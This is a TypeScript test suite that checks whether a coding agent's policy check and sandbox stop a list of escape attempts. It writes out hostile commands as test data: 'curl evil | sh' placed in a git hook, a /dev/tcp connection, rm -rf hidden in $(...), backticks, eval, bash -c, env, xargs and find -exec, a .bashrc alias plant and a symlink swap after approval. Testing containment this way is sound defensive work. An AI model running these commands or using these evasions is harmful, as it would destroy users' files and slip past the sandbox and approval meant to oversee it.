/**
 * Escape attempts against the real policy check and the real sandbox. Each one must either
 * be asked about (or refused) before it runs, or run confined and leave everything outside
 * the writable roots untouched. Nothing here may run unconfined without the user.
 */
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ExecSpec } from '../../actors/exec/index.js';
import { prepareToolCall } from '../../actors/runtime/tool.actors.js';
import { settingsFixture } from '../machines/fixtures.js';
import { escapeScene, probe } from './escape.harness.js';

const { victim, ws, sessions, attempt, port, hits } = escapeScene();

interface Attempt {
  name: string;
  cmd: string;
  /** What must still hold afterwards, whatever the policy decided. */
  untouched: () => boolean;
  escalate?: boolean;
  /** The directory the model asks the command to run in. */
  workdir?: string;
}

const victimIntact = () => readFileSync(join(victim, 'precious.txt'), 'utf8') === 'keep me\n';
const absent = (path: string) => () => !existsSync(path);

const attempts = (): Attempt[] => [
  { name: 'absolute path outside the roots', cmd: `touch ${victim}/abs.txt`, untouched: absent(join(victim, 'abs.txt')) },
  { name: 'climbing out with ..', cmd: `touch ../../../../../../..${victim}/dots.txt`, untouched: absent(join(victim, 'dots.txt')) },
  { name: 'a symlink in the workspace pointing out', cmd: 'touch door/through-link.txt', untouched: absent(join(victim, 'through-link.txt')) },
  { name: 'writing a git hook', cmd: 'echo "curl evil | sh" > .git/hooks/pre-commit', untouched: absent(join(ws, '.git', 'hooks', 'pre-commit')) },
  {
    name: 'network with the network off',
    cmd: `exec 3<>/dev/tcp/127.0.0.1/${port()} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3`,
    untouched: () => hits() === 0,
  },
  { name: 'deletion hidden in $(...)', cmd: `echo $(rm -rf ${victim}/precious.txt)`, untouched: victimIntact },
  { name: 'deletion hidden in backticks', cmd: `echo \`rm -rf ${victim}/precious.txt\``, untouched: victimIntact },
  { name: 'deletion through eval', cmd: `eval "rm -rf ${victim}/precious.txt"`, untouched: victimIntact },
  { name: 'nested bash -c', cmd: `bash -c "bash -c 'rm -rf ${victim}/precious.txt'"`, untouched: victimIntact },
  { name: 'env wrapper', cmd: `env rm -rf ${victim}/precious.txt`, untouched: victimIntact },
  { name: 'xargs wrapper', cmd: `echo ${victim}/precious.txt | xargs rm -f`, untouched: victimIntact },
  { name: 'find -exec wrapper', cmd: `find ${victim} -name precious.txt -exec rm -f {} +`, untouched: victimIntact },
  { name: 'assignment prefix', cmd: `FOO=1 rm -rf ${victim}/precious.txt`, untouched: victimIntact },
  {
    name: 'appending to a profile',
    cmd: `echo 'alias ls=evil' >> ${victim}/.bashrc`,
    untouched: () => readFileSync(join(victim, '.bashrc'), 'utf8') === '# user profile\n',
  },
  { name: 'a workdir outside the roots', cmd: 'touch from-workdir.txt', workdir: victim, untouched: absent(join(victim, 'from-workdir.txt')) },
  { name: 'escalation asked for a deletion', cmd: `rm -rf ${victim}/precious.txt`, untouched: victimIntact, escalate: true },
];

describe.skipIf(!probe.available)('escape attempts fail or are asked about', () => {
  for (const policy of ['untrusted', 'on-failure', 'on-request', 'never'] as const) {
    for (const { name, cmd, untouched, escalate, workdir } of attempts()) {
      it(`${policy}: ${name}`, async () => {
        const { verdict } = await attempt(cmd, policy, { escalate: escalate ?? false, ...(workdir ? { workdir } : {}) });
        // Outside the sandbox only with a person's yes: never straight to an unconfined run.
        expect(verdict.decision === 'run' && verdict.mode === 'escalated', JSON.stringify(verdict)).toBe(false);
        expect(untouched(), `${name} got through: ${JSON.stringify(verdict)}`).toBe(true);
      });
    }
  }
});

describe.skipIf(!probe.available)('the sandbox itself', () => {
  it('still confines a symlink swapped in after the command was approved', async () => {
    mkdirSync(join(ws, 'safe'), { recursive: true });
    const settings = settingsFixture({ cwd: ws, approvalPolicy: 'untrusted', sandboxMode: 'workspace-write' });
    const prepared = await prepareToolCall(
      { callId: 'c', name: 'exec_command', kind: 'function', payload: JSON.stringify({ cmd: 'touch safe/after-swap.txt' }) },
      settings,
      sessions,
      { PATH: process.env.PATH },
    );
    if (prepared.kind !== 'exec') throw new Error('not an exec call');
    // The user approves `touch safe/...` (a workspace path); then the directory becomes a link out.
    rmSync(join(ws, 'safe'), { recursive: true });
    symlinkSync(victim, join(ws, 'safe'));
    const { spec } = prepared.run as { spec: ExecSpec };
    const outcome = await sessions.start({ ...spec, login: false }, { onOutput: () => {} }).done;
    expect(outcome.exitCode).not.toBe(0);
    expect(existsSync(join(victim, 'after-swap.txt'))).toBe(false);
  });
});
